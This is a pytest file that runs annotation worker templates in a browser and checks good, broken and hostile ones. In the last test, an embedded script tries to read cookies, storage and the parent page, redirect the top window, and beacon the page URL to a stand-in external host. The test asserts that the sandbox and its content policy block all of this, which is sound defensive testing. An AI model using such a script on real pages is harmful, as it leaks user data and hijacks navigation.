"""Worker templates of all kinds in a browser: usable ones, broken ones, hostile ones."""

from __future__ import annotations

from pathlib import Path

import pytest
from desk import HEIGHT, WIDTH

from gt_workflow.workflow import templates

TEMPLATES = Path(__file__).parent / "templates"


def test_the_guides_sample_is_usable(desk):
    desk.job((TEMPLATES / "boxes_as_in_the_guide.liquid.html").read_text(), objects=1)
    seat = desk.sit_down()
    assert seat.frame.get_by_text("Draw boxes over each object.").is_visible()
    assert not seat.frame.get_by_text("Inspect the image").is_visible()
    seat.frame.get_by_role("button", name="More").click()
    assert seat.frame.get_by_text("Inspect the image").is_visible()
    seat.press("Escape")
    seat.drag(10, 10, 60, 50)
    seat.press("Enter")
    seat.all_done()
    assert desk.responses() == [
        {
            "annotatedResult": {
                "boundingBoxes": [
                    {"label": "cat", "left": 10, "top": 10, "width": 50, "height": 40}
                ],
                "inputImageProperties": {"height": HEIGHT, "width": WIDTH},
            }
        }
    ]


def test_other_elements_and_the_templates_own_script_are_in_the_answer(desk):
    desk.job((TEMPLATES / "more_than_boxes.liquid.html").read_text(), objects=1)
    seat = desk.sit_down()
    seat.press("n")
    seat.frame.get_by_text("Dark").click()
    seat.frame.get_by_text("Day").click()
    seat.frame.get_by_text("Night").click()
    seat.frame.get_by_role("button", name="Send").click()
    assert seat.page.get_by_text("All done, thank you").count() == 0  # a field is required
    seat.frame.get_by_label("Where is this?").fill("in the garden")
    seat.frame.locator("select").select_option("winter")
    seat.frame.get_by_role("button", name="Send").click()
    seat.all_done()
    [answer] = desk.responses()
    assert answer.pop("boundingBox")["boundingBoxes"] == []
    assert answer == {
        "is": {"blurry": False, "dark": True},
        "time": {"day": False, "night": True},
        "place": "in the garden",
        "note": "",
        "season": "winter",
        "told": "by the template's own script",
    }


@pytest.mark.parametrize(
    ("template", "message"),
    [
        ("{{ task.input.taskObject | no_filter }}", "unknown filter"),
        (
            '<crowd-form><crowd-bounding-box src="x" labels="[cat]"></crowd-bounding-box>',
            "labels cannot be read: cat is no value at character 2",
        ),
        (
            '<crowd-form><crowd-bounding-box src="/_/none" labels="[1]"></crowd-bounding-box>',
            "labels must be a list of texts",
        ),
        (
            "<crowd-form><crowd-bounding-box src='/_/none' labels=\"['a']\"></crowd-bounding-box>",
            "the image cannot be shown",
        ),
    ],
)
def test_a_template_with_an_error_says_so_and_the_task_can_be_declined(desk, template, message):
    desk.job(template, objects=1)
    seat = desk.begin()
    seat.frame.get_by_text(message).wait_for()
    seat.page.get_by_role("button", name="Decline").click()
    seat.page.get_by_role("button", name="Decline this image").click()
    seat.all_done()


def test_a_hostile_template_reaches_nothing(desk):
    template = (
        templates.render("label")
        + """
<script>
  const found = [];
  const attempt = (name, act) => {
    try { act(); found.push(name); } catch { /* as it has to be */ }
  };
  attempt("parent", () => parent.document.body);
  attempt("top", () => { top.location = "https://elsewhere.invalid/"; });
  attempt("cookie", () => document.cookie);
  attempt("storage", () => localStorage.length);
  attempt("eval", () => eval("1"));
  window.open("https://elsewhere.invalid/");
  new Image().src = "https://elsewhere.invalid/?" + location.href;
  fetch("/_/api/me").then(() => found.push("fetch"), () => {});
  document.title = "ran";
  setTimeout(() => { document.body.dataset.found = found.join(); }, 300);
</script>
<img src="https://elsewhere.invalid/x.png">"""
    )
    desk.job(template, objects=1)
    seat = desk.begin()
    answered: list[str] = []
    refused: list[tuple[str, str]] = []
    seat.page.on("response", lambda response: answered.append(response.url))
    seat.page.on("requestfailed", lambda lost: refused.append((lost.url, lost.failure)))
    seat.page.reload()
    seat.ready()
    seat.frame.locator("body[data-found]").wait_for(state="attached")
    assert seat.frame.locator("body").get_attribute("data-found") == ""
    home = desk.server.address
    assert [url for url in answered if not url.startswith(home)] == []
    assert {reason for url, reason in refused if "elsewhere" in url} == {"csp"}
    assert seat.page.url.startswith(home)
    seat.press("n", "Enter")
    seat.all_done()
